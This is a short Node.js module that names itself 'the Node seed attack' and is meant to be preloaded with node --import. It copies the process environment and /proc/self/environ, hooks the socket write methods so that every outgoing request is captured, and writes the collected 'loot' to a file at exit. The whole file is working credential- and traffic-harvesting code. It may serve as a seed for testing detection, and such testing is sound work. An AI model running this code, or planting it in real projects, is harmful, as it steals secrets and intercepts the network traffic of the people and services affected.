// The Node seed attack, preloaded with `node --import`: it takes the environment and
// /proc/self/environ at start-up, hooks every socket write on the prototypes (so it sees each
// request as it goes out, in whatever client), and writes its loot to HARVEST_OUT at exit.
import { readFileSync, writeFileSync } from 'node:fs';
import net from 'node:net';

const loot = { env: { ...process.env }, proc_environ: readFileSync('/proc/self/environ', 'latin1'), wire: [] };
const capture = (chunk, encoding) => {
  if (typeof chunk === 'string') loot.wire.push(Buffer.from(chunk, typeof encoding === 'string' ? encoding : 'utf8').toString('latin1'));
  else if (chunk instanceof Uint8Array) loot.wire.push(Buffer.from(chunk).toString('latin1'));
};
const write = net.Socket.prototype.write;
net.Socket.prototype.write = function (chunk, encoding, callback) {
  capture(chunk, encoding);
  return write.call(this, chunk, encoding, callback);
};
const writev = net.Socket.prototype._writev;
net.Socket.prototype._writev = function (chunks, callback) {
  for (const { chunk, encoding } of chunks) capture(chunk, encoding);
  return writev.call(this, chunks, callback);
};
process.on('exit', () => writeFileSync(process.env.HARVEST_OUT, JSON.stringify(loot)));
